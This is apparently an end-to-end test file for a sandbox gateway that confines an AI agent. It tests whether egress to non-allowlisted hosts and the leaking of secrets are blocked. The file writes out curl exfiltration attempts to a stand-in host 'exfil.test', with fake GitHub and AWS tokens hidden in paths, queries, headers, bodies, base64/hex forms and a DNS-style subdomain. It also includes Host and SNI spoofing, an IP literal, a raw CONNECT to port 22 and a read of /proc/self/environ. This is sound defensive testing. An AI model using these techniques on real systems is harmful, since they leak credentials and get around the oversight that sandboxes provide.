// Sandbox escape, egress (SPEC §12 invariants 2, 4, 6): from inside a real bottle's agent, try
// to reach hosts off the allowlist and to smuggle secrets out through every part of a request;
// the fake upstream's own log is the witness of what got through. One bottle for the file.
import t from 'tap';
import { recordsText, headerValues, type UpstreamRecord } from './fixtures/upstream/upstream.js';
import { randomSource, ALNUM, UPPER32, P } from '../fixtures/secrets/tokens.js';
import { sandboxGate, startSandbox } from '../helpers/sandbox.js';

const gate = await sandboxGate();
t.setTimeout(10 * 60_000);

// `curl` in the agent through the proxy env; prints the body, then "<code> <connect code>".
const CURL = "curl -sS -m 15 -w '\\n%{http_code} %{http_connect}'";
const parse = (out: string): { body: string; code: string; connect: string } => {
  const lines = out.split('\n');
  const [code = '', connect = ''] = (lines.pop() ?? '').split(' ');
  return { body: lines.join('\n'), code, connect };
};
const q = (s: string): string => `'${s.replace(/'/g, `'\\''`)}'`;

await t.test('sandbox egress', { skip: gate.skip }, async (t) => {
  const sb = await startSandbox(gate.docker!, { agent: 'e2e-egress' });
  t.teardown(() => sb.close());
  const curl = async (args: string) => parse((await sb.agent(`${CURL} ${args} 2>/dev/null`)).stdout);
  // The requests the upstream received for one path (query ignored).
  const reached = async (path: string): Promise<UpstreamRecord[]> =>
    (await sb.upstream.records()).filter((r) => (r.url ?? '').split('?')[0] === path);

  await t.test('0. no container of the bottle mounts a host path (its state goes through the engine API)', async (t) => {
    for (const name of [sb.names.bundle, sb.names.agent]) {
      const c = await gate.docker!.getContainer(name).inspect();
      t.same(c.Mounts.filter((m) => m.Type === 'bind').map((m) => m.Source), [], `${name}: no bind mount`);
      t.same(c.HostConfig.Binds ?? [], [], `${name}: no Binds`);
    }
  });

  await t.test('1. an allowed request arrives; the route header is injected there and only there', async (t) => {
    const plain = await curl('https://allowed.test/e2e/allowed');
    t.equal(plain.code, '200');
    t.equal(plain.body, 'upstream ok https GET allowed.test/e2e/allowed\n');
    const forged = await curl(`-i -H 'Authorization: Bearer agent-forged' https://api.allowed.test/e2e/route`); // gitleaks:allow (test dummy)
    t.equal(forged.code, '200');
    const overHttp = await curl(`-H 'Authorization: Bearer agent-forged' http://api.allowed.test/e2e/route-http`); // gitleaks:allow (test dummy)
    t.equal(overHttp.code, '200', 'the host is allowed over plain HTTP too');
    t.notOk(`${forged.body}${overHttp.body}`.includes(sb.routeToken), 'the token does not come back to the agent');

    const [allowed] = await reached('/e2e/allowed');
    t.same(headerValues(allowed!, 'authorization'), [], 'no credential for a host without a route');
    const [r] = await reached('/e2e/route');
    t.same(headerValues(r!, 'authorization'), [`Bearer ${sb.routeToken}`], 'the route\'s header replaced the agent\'s own');
    // Regression: the gateway read `production` as an env var name (502) and refused $${.
    t.same(headerValues(r!, 'x-env'), ['production'], 'a literal route header is injected as written');
    t.same(headerValues(r!, 'x-literal'), ['${NOT_A_VAR}'], '$${ is a literal ${');
    // Plain HTTP crosses the network in the clear: the credential is never put on it, and the
    // agent's own copy of a route header does not pass either.
    const [clear] = await reached('/e2e/route-http');
    t.same([headerValues(clear!, 'authorization'), headerValues(clear!, 'x-env')], [[], []], 'plain HTTP: no route header, the agent\'s copy stripped');
    const env = await sb.agent('env; cat /proc/self/environ');
    t.notOk(env.stdout.includes(sb.routeToken), 'the token is not in the agent env');

    // A route host that echoes the credential: the agent gets it masked, header and body.
    const reflected = await curl('-i https://api.allowed.test/e2e/reflect');
    t.equal(reflected.code, '200');
    const stars = '*'.repeat(sb.routeToken.length);
    t.notOk(reflected.body.includes(sb.routeToken), 'an echoed credential does not reach the agent');
    t.match(reflected.body, new RegExp(`x-e2e-reflect: Bearer \\*{${sb.routeToken.length}}\r?\n`, 'i'), 'masked in the response header');
    t.ok(reflected.body.includes(`you sent: Bearer ${stars}`), 'masked in the body');
    const [echoed] = await reached('/e2e/reflect');
    t.same(headerValues(echoed!, 'authorization'), [`Bearer ${sb.routeToken}`], 'the upstream did get it');
  });

  await t.test('2. a host off the allowlist is blocked however it is named', async (t) => {
    // Issue 15: the tunnel opens and the request inside gets the readable 403 (sandbox-denials
    // covers the tools); a plain-HTTP request spoken through that tunnel is judged the same way.
    const connect = Buffer.from('CONNECT exfil.test:443 HTTP/1.1\r\nHost: exfil.test:443\r\n\r\nGET /e2e/connect-raw HTTP/1.1\r\nHost: exfil.test:443\r\nConnection: close\r\n\r\n').toString('base64');
    const raw = await sb.probe<{ data: string }>('raw', ['gateway', '8888', connect, '5000']);
    t.match(raw.data, /^HTTP\/1\.1 200 /, 'CONNECT exfil.test: opened, to answer inside');
    t.match(raw.data, /\r\n\r\nHTTP\/1\.1 403 [^]*\r\n\r\nblocked: exfil\.test is not on the allowlist\n.*propose_allowlist_change/, 'the request in it: 403 with a blocked: body naming the tool');

    const tls = await curl('https://exfil.test/e2e/connect');
    t.same([tls.connect, tls.code], ['200', '403'], 'curl over HTTPS: the request inside the tunnel is refused');
    t.match(tls.body, /^blocked: exfil\.test is not on the allowlist\n/);
    const plain = await curl('http://exfil.test/e2e/absolute-form');
    t.equal(plain.code, '403', 'plain HTTP absolute-form: 403');
    t.match(plain.body, /^blocked: exfil\.test is not on the allowlist/);
    const spoofTls = await curl(`-H 'Host: exfil.test' https://allowed.test/e2e/spoof-tls`);
    t.equal(spoofTls.code, '403', 'Host: exfil.test inside an allowed tunnel: 403');
    t.match(spoofTls.body, /^blocked: /);
    const spoofHttp = await curl(`-H 'Host: exfil.test' http://allowed.test/e2e/spoof-http`);
    t.equal(spoofHttp.code, '403', 'Host: exfil.test on plain HTTP to an allowed name: 403');
    t.match(spoofHttp.body, /^blocked: /);
    const sni = await sb.probe<{ connect?: number; status?: number; body?: string }>('tunnel', ['gateway', '8888', 'allowed.test', 'exfil.test', 'exfil.test', '/e2e/spoof-sni']);
    t.equal(sni.status, 403, 'TLS SNI exfil.test inside a tunnel to allowed.test: 403');
    const literal = await curl(`http://${sb.upstream.ip}/e2e/ip-literal`);
    t.equal(literal.code, '403', "the upstream's own IP as a URL: 403");
    t.match(literal.body, /^blocked: /);

    const records = await sb.upstream.records();
    const leaked = records.filter((r) => /exfil\.test|\/e2e\/(connect|absolute-form|spoof|ip-literal)/.test(`${r.host} ${r.servername} ${r.url}`));
    t.same(leaked, [], 'none of them reached the upstream');
  });

  await t.test('2b. a passthrough (uninspected) tunnel reaches port 443 of its host and nothing else', async (t) => {
    // -k: a spliced tunnel shows the upstream's own certificate (the test CA), not the bundle's.
    const https = await curl('-k https://pass.allowed.test/e2e/passthrough');
    t.same([https.connect, https.code], ['200', '200'], 'HTTPS to the passthrough host: spliced through');
    t.equal(https.body, 'upstream ok https GET pass.allowed.test/e2e/passthrough\n');
    // Another port of it is not spliced: the gateway terminates the tunnel there and judges what
    // runs inside in full (HTTP is scanned like any request); anything else (ssh) goes nowhere.
    const other = await curl('-p http://pass.allowed.test:80/e2e/passthrough-other-port');
    t.same([other.connect, other.code], ['200', '200'], 'a tunnel to another port of it: intercepted, HTTP inside judged in full');
    const leak = await curl(`-p -H 'X-Note: ${P.ghp}${'a'.repeat(36)}' http://pass.allowed.test:80/e2e/passthrough-other-port-leak`);
    t.same([leak.connect, leak.code], ['200', '403'], 'a secret inside that tunnel is refused');
    const connect = Buffer.from('CONNECT pass.allowed.test:22 HTTP/1.1\r\nHost: pass.allowed.test:22\r\n\r\nSSH-2.0-OpenSSH_9.6\r\n').toString('base64');
    const raw = await sb.probe<{ data: string }>('raw', ['gateway', '8888', connect, '5000']);
    t.match(raw.data, /^HTTP\/1\.1 200 /, 'CONNECT to port 22: established for interception');
    t.notMatch(raw.data, /SSH-2\.0/, 'no ssh server answered through it');
    t.same(await reached('/e2e/passthrough-other-port-leak'), [], 'the secret did not reach the upstream');
  });

  await t.test('3. secrets anywhere in a request are blocked before the upstream', async (t) => {
    const r = randomSource(Date.now() >>> 0);
    const github = `${P.ghp}${r(ALNUM, 36)}`;
    const aws = `${P.akia}${r(UPPER32, 16)}`;
    const b64 = Buffer.from(`token=${github}`).toString('base64');
    const hex = Buffer.from(github).toString('hex');
    // A DNS-exfiltration-shaped label: 40 random base32 characters under an allowed wildcard.
    const label = r('abcdefghijklmnopqrstuvwxyz234567', 40);
    const cases: Array<[string, string]> = [
      ['path', `https://allowed.test/e2e/dlp-path/${github}`],
      ['query', `https://allowed.test/e2e/dlp-query?token=${github}`],
      ['base64 query', `https://allowed.test/e2e/dlp-b64?d=${encodeURIComponent(b64)}`],
      ['plain-HTTP query', `http://allowed.test/e2e/dlp-http?k=${aws}`],
      ['header', `-H ${q(`X-Custom: ${github}`)} https://allowed.test/e2e/dlp-header`],
      ['header (plain HTTP)', `-H ${q(`X-Custom: ${aws}`)} http://allowed.test/e2e/dlp-header-http`],
      ['JSON body', `-H 'content-type: application/json' --data ${q(JSON.stringify({ note: 'hi', key: aws }))} https://allowed.test/e2e/dlp-json`],
      ['hex in a form body', `--data ${q(`blob=${hex}`)} https://allowed.test/e2e/dlp-form`],
      ['JSON body to a route host', `-H 'content-type: application/json' --data ${q(JSON.stringify({ key: github }))} https://api.allowed.test/e2e/dlp-route`],
    ];
    for (const [where, args] of cases) {
      const res = await curl(args);
      t.equal(res.code, '403', `${where}: 403`);
      t.match(res.body, /^blocked: /, `${where}: ${res.body.split('\n')[0]}`);
    }
    const sub = await curl(`https://${label}.allowed.test/e2e/dlp-subdomain`);
    t.same([sub.connect, sub.code], ['403', '000'], 'high-entropy subdomain of an allowed wildcard: CONNECT refused');
    const subHttp = await curl(`http://${label}.allowed.test/e2e/dlp-subdomain-http`);
    t.equal(subHttp.code, '403', 'the same over plain HTTP: 403');
    const control = await curl('https://www.allowed.test/e2e/dlp-control');
    t.equal(control.code, '200', 'control: a plain name under the same wildcard goes through');

    const records = await sb.upstream.records();
    const text = recordsText(records);
    for (const [what, needle] of [['GitHub token', github], ['AWS key id', aws], ['base64 form', b64], ['hex form', hex], ['subdomain', label]] as const) {
      t.notOk(text.includes(needle), `the ${what} never reached the upstream`);
    }
    t.same(records.filter((x) => /\/e2e\/dlp-(?!control)/.test(x.url ?? '')).map((x) => x.url), [], 'no blocked request reached the upstream');
  });

  // Last: this plants the route token in the agent, which the isolation file proves it never holds.
  await t.test('3b. the route secret itself is caught leaving (canary), even to an allowed host', async (t) => {
    // In a header no entropy rule looks at, so the canary is what catches it, every run.
    const header = await curl(`-H 'X-Trace: ${sb.routeToken}' https://allowed.test/e2e/canary-header`);
    t.equal(header.code, '403');
    t.match(header.body, /^blocked: route secret \(\w+ form\) in /, 'in a header: the canary');
    // In the query the entropy stage (which runs first) may already refuse a random-looking token.
    const query = await curl(`https://allowed.test/e2e/canary?x=${sb.routeToken}`);
    t.equal(query.code, '403');
    t.match(query.body, /^blocked: (.*route secret|high-entropy query value)/, 'in the query: blocked');
    t.same([...await reached('/e2e/canary-header'), ...await reached('/e2e/canary')], [], 'it never reached the upstream');
  });
});
